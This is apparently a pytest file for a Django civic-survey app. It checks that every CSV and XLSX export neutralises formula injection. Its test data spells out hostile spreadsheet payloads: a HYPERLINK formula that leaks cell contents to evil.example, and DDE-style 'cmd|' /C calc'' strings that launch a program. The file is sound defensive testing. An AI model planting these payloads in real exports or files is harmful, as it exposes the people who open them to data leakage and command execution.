"""Every CSV and XLSX the web app serves, walked URL by URL: no cell runs as a formula.

Hostile text is planted where users and files can put it (a response id, a comment, a refused
file's values, an action's description, a plan's title); every export of every page is fetched
in both formats and every cell checked: text beginning = + - @ (or tab, CR) starts with an
apostrophe, XLSX text is a string cell, numbers (negative too) stay numbers.
"""

import csv
import html
import io
import re
from urllib.parse import urljoin, urlsplit

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, resolve, reverse
from django.utils import timezone

from citizenfocus.core.spreadsheet import FORMULA_STARTS, spreadsheet_value
from citizenfocus.surveys.importing import ImportRefused, survey_import
from tests.performance.conftest import demo_data  # noqa: F401  (fixture)
from tests.plans.conftest import imported, plan_docx  # noqa: F401  (fixtures)

HOSTILE_ID = '=HYPERLINK("http://evil.example/?"&A1,"open")'
HOSTILE = {"id": HOSTILE_ID, "comment": "+cmd|' /C calc'!A0", "value": "@SUM(1+1)*cmd|' /C calc'!A0",
           "action": "=1+1 launch", "title": "-2+3 plan", "tab": "\t=1+2"}
CONTENT = {"text/csv": "csv", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet": "xlsx"}


def _named_patterns(resolver=None, namespace=""):
    for entry in (resolver or get_resolver()).url_patterns:
        if isinstance(entry, URLResolver) and entry.app_name != "admin":
            yield from _named_patterns(entry, f"{namespace}{entry.namespace}:" if entry.namespace else namespace)
        elif isinstance(entry, URLPattern) and entry.name:
            yield f"{namespace}{entry.name}", entry


def _plant(users, imported, tmp_path):  # noqa: F811
    """Hostile text everywhere an export can show it; returns a pk for every kind of URL."""
    from citizenfocus.areas.models import Neighbourhood
    from citizenfocus.plans.models import Action, Evidence, Plan
    from citizenfocus.surveys.models import ImportBatch

    hood = Neighbourhood.objects.select_related("division").first()
    header = "response_id,interview_date,crime_type,division,neighbourhood,ethnicity,ease_of_contact," \
             "actions_taken,kept_informed,treatment,whole_experience,comment\n"
    good = tmp_path / "hostile.csv"
    good.write_text(header + f'"{HOSTILE_ID.replace(chr(34), chr(34) * 2)}",2013-06-01,asb,{hood.division.name},'
                    f'{hood.name},W1,1,2,3,4,5,"{HOSTILE["comment"]}"\n', encoding="utf-8")
    survey_import(path=good, survey="uss", user_name="analyst")
    bad = tmp_path / "refused.csv"
    bad.write_text(header + f'R1,2013-06-01,"{HOSTILE["value"]}",{hood.division.name},{hood.name},W1,1,2,3,4,5,\n',
                   encoding="utf-8")
    with pytest.raises(ImportRefused):
        survey_import(path=bad, survey="uss", user_name="analyst")
    action = Action.objects.filter(response__recommendation__plan=imported).first()
    Action.objects.filter(pk=action.pk).update(description=HOSTILE["action"])
    Plan.objects.filter(pk=imported.pk).update(title=HOSTILE["title"], owning_body=HOSTILE["tab"])
    from django.core.files.uploadedfile import SimpleUploadedFile

    from citizenfocus.plans import services

    update = services.action_update(action=action, user=users["analyst"], text=HOSTILE["action"],
                                    files=[SimpleUploadedFile("note.txt", b"minutes")])
    register = services.risk_register_create(title=HOSTILE["title"], user=users["analyst"], plan=imported)
    risk = services.risk_create(register=register, user=users["analyst"], title=HOSTILE["action"], likelihood=2,
                                impact=2)
    meeting = services.meeting_record(plan=imported, user=users["analyst"], title=HOSTILE["title"],
                                      held_on=timezone.localdate())
    return {"plan": imported.pk, "action": action.pk, "response": action.response.pk,
            "recommendation": action.response.recommendation.pk, "register": register.pk, "risk": risk.pk,
            "meeting": meeting.pk, "batch": ImportBatch.objects.filter(status="refused").latest("pk").pk,
            "evidence": Evidence.objects.get(update=update).pk, "import": imported.imports.get().pk}


def _plant_communities(users) -> dict:
    """Hostile text in engagement records (a KIN name, a priority, a tension return) and a public release."""
    import datetime as dt

    from citizenfocus.areas.models import Neighbourhood
    from citizenfocus.communities import services as engage
    from citizenfocus.public.models import Release
    from citizenfocus.public.snapshot import release_snapshot, snapshot_hash

    hood = Neighbourhood.objects.select_related("division").first()
    member = engage.kin_member_add(neighbourhood=hood, name=HOSTILE["action"], contact=HOSTILE["value"],
                                   user=users["administrator"])
    priority = engage.priority_create(neighbourhood=hood, title=HOSTILE["title"], raised_by="panel",
                                      raised_on=dt.date(2026, 9, 1), you_said=HOSTILE["id"], user=users["administrator"])
    engage.tension_submit(week=dt.date(2026, 11, 16), division=hood.division, neighbourhood=hood, level=2,
                          reliability="reliable", factors=HOSTILE["action"], user=users["administrator"])
    from citizenfocus.communities import assessing

    cia = assessing.cia_create(user=users["administrator"], neighbourhood=hood, operation=HOSTILE["title"],
                               planned_on=dt.date(2026, 12, 1), communities_affected=HOSTILE["action"])
    policy = assessing.policy_register(user=users["administrator"], title=HOSTILE["action"], kind="policy",
                                       owner=HOSTILE["tab"], next_review_due=dt.date(2026, 12, 1))
    from citizenfocus.communities import panel_services

    panel = panel_services.panel_create(user=users["administrator"], name=HOSTILE["title"], kind="iag")
    meeting = panel_services.panel_meeting_record(panel=panel, user=users["administrator"],
                                                  held_on=dt.date(2026, 11, 1), advice=HOSTILE["action"])
    snapshot = release_snapshot(min_base=50)
    release = Release.objects.create(title="t", snapshot=snapshot, sha256=snapshot_hash(snapshot), min_base=50,
                                     approved_by_name="analyst")
    return {"code": hood.code, "communities:priority": priority.pk, "communities:kin_leave": member.pk,
            "public:table": release.pk, "communities:priority_action_add": priority.pk,
            "communities:we_did_add": priority.pk,
            **{f"communities:{n}": cia.pk for n in ("cia", "cia_sign_off")},
            **{f"communities:{n}": policy.pk for n in ("policy", "policy_screen", "policy_review", "policy_action_add")},
            **{f"communities:{n}": panel.pk for n in ("panel", "panel_member_add", "panel_meeting_add", "panel_finding")},
            "communities:panel_response": meeting.pk}


def _community_kwargs(name: str, pattern, planted: dict) -> dict:
    kwargs = {"code": planted["code"]} if "code" in pattern.pattern.converters else {}
    if name == "public:table":
        kwargs |= {"pk": planted[name], "key": "you-said-we-did", "fmt": "csv"}
    elif name in planted:
        kwargs["pk"] = planted[name]
    return kwargs


def _kind(name: str) -> str:
    short = name.split(":")[1]
    for kind in ("recommendation", "response", "action", "register", "risk", "meeting", "import", "evidence"):
        if short.startswith(kind) or short == f"{kind}s":
            return kind
    return "batch" if name == "surveys:batch" else "plan"


def _is_export(response) -> bool:
    return response.status_code == 200 and response["Content-Type"].split(";")[0] in CONTENT


def _export_links(client, url: str) -> list[str]:
    """The page's own CSV and XLSX links (every table's), and its ?format=csv / xlsx."""
    links = [f"{url}?format=csv", f"{url}?format=xlsx"]
    page = client.get(url)
    if page.status_code == 200 and page["Content-Type"].startswith("text/html"):
        for href in re.findall(r'href="([^"]*format=(?:csv|xlsx)[^"]*)"', page.content.decode()):
            links.append(urljoin(url, html.unescape(href)))
    return links


def _cells(response) -> list:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if CONTENT[response["Content-Type"].split(";")[0]] == "csv":
        return [("s", cell) for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(body))  # formulas as formulas: data_only would hide them
    return [(cell.data_type, cell.value) for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
            if cell.value is not None]


def _unsafe(cells: list) -> list:
    bad = []
    for data_type, value in cells:
        if data_type == "f":
            bad.append(value)
        elif isinstance(value, str) and spreadsheet_value(value) != value:
            bad.append(value)
    return bad


@pytest.mark.usefixtures("demo_data")
def test_every_csv_and_xlsx_export_of_every_page_holds_no_formula(client, users, imported, tmp_path):  # noqa: F811
    pks = _plant(users, imported, tmp_path)
    planted = _plant_communities(users)
    client.force_login(users["administrator"])
    checked, texts, seen = set(), [], set()
    for name, pattern in _named_patterns():
        if name in {"healthz", "login", "logout"}:
            continue
        kwargs = {"pk": pks[_kind(name)]} if "pk" in pattern.pattern.converters else {}
        if "code" in pattern.pattern.converters:  # a neighbourhood's pages (equality profiles)
            kwargs["code"] = "C12"
        if name.startswith(("communities:", "public:")):
            kwargs = _community_kwargs(name, pattern, planted)
        for url in _export_links(client, reverse(name, kwargs=kwargs)):
            if url in seen:
                continue
            seen.add(url)
            response = client.get(url)
            if not _is_export(response):
                continue
            cells = _cells(response)
            assert not _unsafe(cells), f"{name} {url}: {_unsafe(cells)[:3]}"
            texts += [str(v) for _, v in cells]
            checked.add((resolve(urlsplit(url).path).view_name, CONTENT[response["Content-Type"].split(";")[0]]))
    exported = {name for name, _ in checked}
    assert {"surveys:data", "surveys:batch", "surveys:responses", "plans:plan_export", "plans:plan", "plans:action",
            "plans:plan_history", "performance:overview", "performance:gaps"} <= exported, exported
    assert {"communities:kin", "communities:priorities", "communities:tension", "public:table", "communities:cias",
            "communities:equality", "communities:policy", "communities:panels", "communities:panel"} <= exported, exported
    for value in (HOSTILE["id"], HOSTILE["value"], HOSTILE["action"], HOSTILE["title"]):  # comments are not exported
        assert "'" + value in texts, f"{value!r} was not exported (neutralised) anywhere"


def test_negative_numbers_stay_numbers_and_plain_text_is_untouched():
    assert [spreadsheet_value(v) for v in (-3.5, -2, "-3.5", "+44", "-1e3", "plain", "a=b", "", "-")] == [
        -3.5, -2, "-3.5", "+44", "-1e3", "plain", "a=b", "", "-"]
    assert [spreadsheet_value(v) for v in ("=1", "+a", "-a", "@a", "\t=1", "\r=1", "-1+2")] == [
        "'=1", "'+a", "'-a", "'@a", "'\t=1", "'\r=1", "'-1+2"]
    assert all(start in FORMULA_STARTS for start in "=+-@\t\r")


def test_the_indicators_command_writes_no_formula_in_its_csv(monkeypatch, capsys):
    from citizenfocus.cli import indicators

    indicators._print_csv([{"group": HOSTILE_ID, "rate": -0.25, "diff": "-12", "label": "-12 points"}])

    lines = capsys.readouterr().out.splitlines()
    assert lines[1].startswith("\"'=HYPERLINK(") and lines[1].endswith(",-0.25,-12,'-12 points")
